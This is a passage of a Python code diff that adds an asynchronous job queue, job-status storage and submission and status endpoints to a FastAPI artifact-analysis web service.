+            publish_job(job)
+            try:
+                # The queue is the admission control here, so wait for an
+                # analysis slot instead of failing with AnalysisBusy.
+                report = await build_report(job.artifact, wait=True, seed=job.seed, report_id=job.id)
+                with timed_stage("store"):
+                    await store_report(report)
+                job.status = "done"
+                self.completed += 1
+            except Exception as exc:  # a failed job must not take its worker down
+                job.status = "failed"
+                job.error = f"{type(exc).__name__}: {exc}"
+                self.failed += 1
+            finally:
+                job.artifact.close()
+                job.artifact = None
+                job.finished = time.time()
+                self.run_time.observe(job.finished - job.started)
+                self.running -= 1
+                publish_job(job)
+                self._retire(job)
+
+    def _retire(self, job: Job) -> None:
+        self._finished.append(job.id)
+        while len(self._finished) > self.retention:
+            self.jobs.pop(self._finished.popleft(), None)
+
+    def get(self, job_id: str) -> dict | None:
+        job = self.jobs.get(job_id)
+        if job is not None:
+            return job.view()
+        view = load_published_job(job_id)
+        if view is not None:
+            return view
+        # Finished elsewhere, or retired from memory: the report is the record.
+        report = load_report(job_id)
+        if report is None:
+            return None
+        return {
+            "job_id": job_id,
+            "status": "done",
+            "filename": report["filename"],
+            "report_id": job_id,
+        }
+
+    def stats(self) -> dict:
+        return {
+            "workers": self.workers,
+            "queued": self._queue.qsize() if self._queue is not None else 0,
+            "queue_limit": self.limit,
+            "running": self.running,
+            "completed": self.completed,
+            "failed": self.failed,
+            "rejected": self.rejected,
+            "wait": self.wait_time.snapshot(),
+            "run": self.run_time.snapshot(),
+        }
+
+
+def publish_job(job: Job) -> None:
+    """Make a pending job's state visible to the other worker processes."""
+    if not SHARED_STORAGE:
+        return
+    path = os.path.join(JOB_DIR, f"{job.id}.json")
+    if job.status == "done":
+        # The stored report answers for it from now on.
+        try:
+            os.unlink(path)
+        except FileNotFoundError:
+            pass
+        return
+    os.makedirs(JOB_DIR, exist_ok=True)
+    tmp = f"{path}.{os.getpid()}.tmp"
+    with open(tmp, "wb") as f:
+        f.write(dump_json(job.view()))
+    os.replace(tmp, path)
+
+
+def load_published_job(job_id: str) -> dict | None:
+    if not SHARED_STORAGE or not re.fullmatch(r"[0-9a-f]{10}", job_id):
+        return None
+    try:
+        with open(os.path.join(JOB_DIR, f"{job_id}.json"), "rb") as f:
+            return json.loads(f.read())
+    except (FileNotFoundError, ValueError):
+        return None
+
+
+JOB_QUEUE = JobQueue(JOB_WORKERS, JOB_QUEUE_LIMIT, JOB_RETENTION)
+
+
+def job_urls(job_id: str) -> dict:
+    return {"status_url": f"/api/v1/jobs/{job_id}", "report_url": f"/report/{job_id}"}
+
+
+async def submit_job(file: UploadFile, seed: int | None, priority: str, api: bool) -> Job | Response:
+    with timed_stage("ingest"):
+        try:
+            artifact = await ingest_upload(file)
+        except ArtifactTooLarge:
+            return artifact_too_large_response(api=api)
+    try:
+        job = JOB_QUEUE.submit(artifact, priority, seed)
+    except QueueFull:
+        return analysis_busy_response(api=api)
+    # Starlette closes form files once the response is sent; the spool now
+    # belongs to the job, so leave an empty stand-in for it to close instead.
+    file.file = io.BytesIO()
+    return job
+
+
+@app.post("/api/v1/jobs", response_class=FastJSONResponse, status_code=202)
+async def api_submit_job(
+    file: UploadFile = File(...),
+    seed: int | None = Form(default=None),
+    priority: str = Form(default="normal"),
+):
+    if priority not in JOB_PRIORITIES:
+        return FastJSONResponse({"detail": f"priority must be one of: {', '.join(JOB_PRIORITIES)}"}, status_code=400)
+    job = await submit_job(file, seed, priority, api=True)
+    if isinstance(job, Response):
+        return job
+    urls = job_urls(job.id)
+    return FastJSONResponse(
+        {**job.view(), **urls},
+        status_code=202,
+        headers={"Location": urls["status_url"], "Retry-After": str(JOB_POLL_INTERVAL)},
+    )
+
+
+@app.get("/api/v1/jobs/{job_id}", response_class=FastJSONResponse)
+async def api_job(job_id: str):
+    view = JOB_QUEUE.get(job_id)
+    if view is None:
+        return FastJSONResponse({"detail": "Job not found"}, status_code=404)
+    pending = view["status"] in ("queued", "running")
+    headers = {"Retry-After": str(JOB_POLL_INTERVAL)} if pending else None
+    return FastJSONResponse({**view, **job_urls(job_id)}, headers=headers)
+
+
+@app.post("/jobs")
+async def form_submit_job(file: UploadFile = File(...), seed: int | None = Form(default=None)):
+    job = await submit_job(file, seed, "normal", api=False)
+    if isinstance(job, Response):
+        return job
+    return RedirectResponse(f"/jobs/{job.id}", status_code=303)
+
+
+@app.get("/jobs/{job_id}", response_class=HTMLResponse)
+async def view_job(job_id: str):
+    view = JOB_QUEUE.get(job_id)
+    if view is None:
+        content = """
+<div class="card">
+  <h2>Job not found</h2>
+  <p class="subtle">Unknown job id, or it finished long enough ago to have been forgotten.</p>
+  <p class="subtle"><a href="/">Back to home</a></p>
+</div>
+"""
+        return HTMLResponse(page_shell(content, "Job Missing"), status_code=404)
+    if view["status"] == "done":
+        return RedirectResponse(f"/report/{job_id}", status_code=303)
+    if view["status"] == "failed":
+        content = f"""
+<div class="card">
+  <h2>Analysis failed</h2>
+  <p class="subtle">Artifact: <span class="mono">{html.escape(view["filename"])}</span></p>
+  <p class="subtle mono">{html.escape(view["error"] or "")}</p>
+  <p class="subtle"><a href="/">Back to home</a></p>
+</div>
+"""
+        return HTMLResponse(page_shell(content, "Job Failed"), status_code=500)
+    waiting = "Waiting for an analysis worker…" if view["status"] == "queued" else "Analysing…"
+    content = f"""
+<div class="card">
+  <h2>{waiting}</h2>
+  <p class="subtle">
+    Artifact: <span class="mono">{html.escape(view["filename"])}</span><br/>
+    Job ID: <span class="mono">{html.escape(job_id)}</span>
+  </p>
+  <p class="subtle">This page refreshes itself and opens the report when it is ready.</p>
+</div>
+"""
+    return HTMLResponse(
+        page_shell(content, view["status"].capitalize()), headers={"Refresh": str(JOB_POLL_INTERVAL)}
+    )